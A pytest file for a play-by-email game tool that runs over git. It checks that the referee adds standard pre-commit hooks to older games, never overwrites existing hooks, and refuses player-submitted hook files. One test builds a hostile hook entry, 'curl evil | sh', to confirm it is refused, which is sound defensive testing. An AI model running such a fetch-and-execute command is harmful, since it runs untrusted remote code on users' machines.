"""A game started by an earlier pbem, whose first commit has no `.pre-commit-config.yaml`: the referee's next
commit adds the very file `pbem git init` writes now, once, and never writes over one that is there."""
from __future__ import annotations

import pytest

from gitkit import Club, git, plan
from pbem.git import layout, start

SEED = "older-seed"


def started_by_an_earlier_pbem(root, monkeypatch, **options) -> Club:
    """A club whose `pbem git init` wrote what an earlier pbem wrote: everything but the pre-commit hooks."""
    fixed = start._fixed_files
    root.mkdir()
    with monkeypatch.context() as patched:
        patched.setattr(start, "_fixed_files",
                        lambda *args: {path: data for path, data in fixed(*args).items() if path != layout.PRE_COMMIT})
        game = Club(root, "coal-baron", 3, seed=SEED, **options)
    assert git(game.dir, "ls-tree", "--name-only", "HEAD", layout.PRE_COMMIT) == ""
    return game


def hooks_of(where, rev: str = "HEAD") -> bytes:
    return git(where, "show", f"{rev}:{layout.PRE_COMMIT}").encode()


@pytest.mark.parametrize("ci", [False, True], ids=["local-referee", "ci-referee"])
def test_the_referees_next_commit_adds_the_pre_commit_hooks_pbem_git_init_writes_to_an_older_game(
        club, tmp_path, monkeypatch, ci):
    new = club("coal-baron", 3, seed=SEED)  # started by this pbem
    game = started_by_an_earlier_pbem(tmp_path / "older", monkeypatch, ci=ci)
    (number, player, moves), = plan("coal-baron", game.names, SEED, game.dir.name, limit=1)[0]
    assert game.move(player, "; ".join(moves)).code == 0
    run = game.referee()
    assert [c["verdict"] for c in run["commits"]] == ["accepted"] and run["added"] == [layout.PRE_COMMIT]
    assert hooks_of(game.dir) == hooks_of(new.dir) == layout.PRE_COMMIT_CONFIG.encode()
    message = git(game.dir, "log", "-1", "--format=%B")
    assert message.startswith(f"pbem: move {number} by {player}") and f"Added {layout.PRE_COMMIT}" in message
    game.pull("carol")
    assert (game.clones["carol"] / layout.PRE_COMMIT).read_bytes() == layout.PRE_COMMIT_CONFIG.encode()
    # once there, it is not written again
    again = game.referee()
    assert again["commit"] is None and again["added"] == []
    verified = game.pbem("git", "verify", game.dir)
    assert verified.code == 0, verified.err


def test_a_referee_run_with_nothing_to_judge_adds_the_missing_hooks_in_a_commit_of_its_own(tmp_path, monkeypatch):
    game = started_by_an_earlier_pbem(tmp_path / "older", monkeypatch)
    before = git(game.dir, "rev-parse", "HEAD").strip()
    run = game.referee()
    assert run["commits"] == [] and run["added"] == [layout.PRE_COMMIT] and run["commit"] and run["pushed"]
    assert git(game.dir, "show", "--name-only", "--format=", "HEAD").split() == [layout.PRE_COMMIT]
    assert git(game.dir, "log", "-1", "--format=%s").strip() == "pbem: the players' pre-commit hooks"
    assert git(game.dir, "rev-parse", "HEAD^").strip() == before
    assert hooks_of(game.remote, "main") == layout.PRE_COMMIT_CONFIG.encode()
    assert game.referee()["commit"] is None
    text = game.pbem("git", "referee", game.dir, *game.referee_args())
    assert text.code == 0 and "nothing new to referee" in text.out


def test_a_players_commit_adding_pre_commit_hooks_to_an_older_game_is_refused_and_the_referee_writes_its_own(
        tmp_path, monkeypatch):
    game = started_by_an_earlier_pbem(tmp_path / "older", monkeypatch)
    hostile = layout.PRE_COMMIT_CONFIG.replace("entry: pbem git check-move", "entry: sh -c 'curl evil | sh'")
    commit = game.commit_file("alice", layout.PRE_COMMIT, hostile, "hooks for everyone")
    run = game.referee()
    assert [(c["commit"], c["verdict"]) for c in run["commits"]] == [(commit, "refused")]
    assert layout.PRE_COMMIT in run["commits"][0]["reason"]
    assert hooks_of(game.dir) == layout.PRE_COMMIT_CONFIG.encode()
    game.pull("bob")
    assert (game.clones["bob"] / layout.PRE_COMMIT).read_text() == layout.PRE_COMMIT_CONFIG


def test_the_referee_never_writes_over_pre_commit_hooks_its_game_already_has(tmp_path, monkeypatch):
    earlier = layout.PRE_COMMIT_CONFIG.replace("name: pbem move files", "name: move files (an earlier wording)")
    (tmp_path / "earlier").mkdir()
    with monkeypatch.context() as patched:
        patched.setattr(layout, "PRE_COMMIT_CONFIG", earlier)
        game = Club(tmp_path / "earlier", "coal-baron", 3, seed=SEED)
    assert hooks_of(game.dir) == earlier.encode() != layout.PRE_COMMIT_CONFIG.encode()
    (number, player, moves), = plan("coal-baron", game.names, SEED, game.dir.name, limit=1)[0]
    assert game.move(player, "; ".join(moves)).code == 0
    edited = game.commit_file(player, layout.PRE_COMMIT, layout.PRE_COMMIT_CONFIG, "the newest hooks")
    run = game.referee()
    assert [(c["verdict"], c["commit"] == edited) for c in run["commits"]] == [("accepted", False),
                                                                              ("refused", True)]
    assert run["added"] == [] and hooks_of(game.dir) == earlier.encode()
